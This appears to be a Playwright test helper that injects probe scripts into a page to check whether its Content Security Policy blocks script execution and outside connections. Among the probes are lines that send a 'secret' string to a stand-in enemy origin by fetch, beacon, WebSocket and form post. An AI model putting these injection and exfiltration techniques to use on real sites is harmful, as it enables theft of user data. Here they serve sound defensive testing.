import type { Page } from '@playwright/test'

/** What an attempt leaves where it succeeds: a word in `ran`, or a request to the enemy. */
export type Attempts = { readonly ran: readonly string[]; readonly tried: readonly string[] }

/**
 * Tries everything that a script injected into a page would begin with, from inside the page, one after the other: other scripts, evaluated
 * text, foreign files of every kind, foreign connections. Waits for none to succeed, but until each has been decided by the browser.
 */
export function inject(page: Page, enemy: string): Promise<Attempts> {
  return page.evaluate(async (enemyOrigin) => {
    const own = globalThis as unknown as { ran: string[] }
    own.ran = []
    const tried: string[] = []
    const say = (word: string) => `globalThis.ran.push(${JSON.stringify(word)}), dispatchEvent(new Event('ran'))`
    const heard = (target: EventTarget, ...types: string[]) =>
      new Promise<void>((resolve) => {
        for (const type of types) target.addEventListener(type, () => resolve())
      })
    /** The page's policy has refused something of a kind. */
    const refused = (directive: string) =>
      new Promise<void>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          if (effectiveDirective === directive) resolve()
        })
      })
    /** Adds an element and waits until the browser has loaded or refused what it names. */
    const add = async (word: string, tag: string, attributes: Record<string, string>, text = '') => {
      tried.push(word)
      const element = document.createElement(tag)
      const decided = heard(element, 'load', 'error', 'securitypolicyviolation')
      element.addEventListener('load', () => {
        if (tag !== 'script' && tag !== 'iframe') own.ran.push(word)
      })
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      element.textContent = text
      document.body.append(element)
      // A script of its own text runs at once, and nothing is told of it.
      if (!own.ran.includes(word)) await decided
    }
    /** Runs later, away from the tool that put this here, which may evaluate what the page may not. */
    const later = (word: string, act: () => unknown) => {
      tried.push(word)
      return new Promise<void>((resolve) => {
        setTimeout(async () => {
          try {
            await act()
          } catch {
            // Refused: that is what is looked for.
          }
          resolve()
        })
      })
    }
    const encoded = (word: string) => `data:text/javascript,${encodeURIComponent(say(word))}`
    const blob = (word: string) => URL.createObjectURL(new Blob([say(word)], { type: 'text/javascript' }))
    const workerSays = (url: string, word: string) =>
      new Promise<void>((resolve) => {
        const worker = new Worker(url)
        worker.onmessage = () => resolve(void own.ran.push(word))
        worker.onerror = () => resolve()
      })
    const post = encodeURIComponent('postMessage(1)')

    await add('inline script', 'script', {}, say('inline script'))
    await add('data: script', 'script', { src: encoded('data: script') })
    await add('blob: script', 'script', { src: blob('blob: script') })
    await add('foreign script', 'script', { src: `${enemyOrigin}/script.js` })
    await add('foreign module', 'script', { src: `${enemyOrigin}/module.js`, type: 'module' })
    await add('foreign style', 'link', { rel: 'stylesheet', href: `${enemyOrigin}/style.css` })
    await add('foreign picture', 'img', { src: `${enemyOrigin}/picture.svg` })
    await add('foreign frame', 'iframe', { src: `${enemyOrigin}/frame.html` })
    await add('frame of its own source', 'iframe', { srcdoc: `<script>parent.ran.push('frame of its own source')</script>` })
    await add('foreign object', 'object', { data: `${enemyOrigin}/object.svg` })
    await add('handler in an attribute', 'img', { src: 'data:,', onerror: say('handler in an attribute') })
    // biome-ignore lint/security/noGlobalEval: whether the page refuses it is the question
    await later('eval', () => globalThis.eval(say('eval')))
    await later('new Function', () => new Function(say('new Function'))())
    await later('timer of text', () => {
      setTimeout(say('timer of text') as unknown as () => void)
      // Timers of one length go off in the order they were set.
      return new Promise((resolve) => setTimeout(resolve))
    })
    await later('import of data:', () => import(/* @vite-ignore */ encoded('import of data:')))
    await later('javascript: link', () => {
      const link = document.createElement('a')
      link.href = `javascript:${say('javascript: link')}`
      document.body.append(link)
      const decided = Promise.race([heard(globalThis, 'ran'), refused('script-src-elem')])
      link.click()
      return decided
    })
    await later('worker of data:', () => workerSays(`data:text/javascript,${post}`, 'worker of data:'))
    await later('worker of blob:', () => workerSays(URL.createObjectURL(new Blob(['postMessage(1)'])), 'worker of blob:'))
    await later('foreign fetch', () => fetch(`${enemyOrigin}/fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }))
    await later('foreign beacon', () => navigator.sendBeacon(`${enemyOrigin}/beacon`, 'secret'))
    await later('foreign socket', () => {
      const socket = new WebSocket(`${enemyOrigin.replace('http', 'ws')}/socket`)
      return new Promise((resolve) => socket.addEventListener('error', resolve))
    })
    await later('foreign events', () => {
      const source = new EventSource(`${enemyOrigin}/events`)
      return new Promise((resolve) => source.addEventListener('error', resolve))
    })
    await later('foreign font', () => new FontFace('enemy', `url(${enemyOrigin}/font.woff2)`).load())
    await later('foreign base', () => {
      const base = document.createElement('base')
      base.href = `${enemyOrigin}/based/`
      document.head.prepend(base)
      if (document.baseURI.startsWith(enemyOrigin)) own.ran.push('foreign base')
      return fetch('relative', { mode: 'no-cors' }).finally(() => base.remove())
    })
    await later('foreign form', () => {
      const form = document.createElement('form')
      const frame = document.createElement('iframe')
      frame.name = 'target'
      document.body.append(frame)
      Object.assign(form, { action: `${enemyOrigin}/form`, method: 'post', target: 'target' })
      document.body.append(form)
      const decided = Promise.race([heard(frame, 'load'), refused('form-action')])
      form.submit()
      return decided
    })
    if (getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)') own.ran.push('foreign style')
    return { ran: own.ran, tried }
  }, enemy)
}
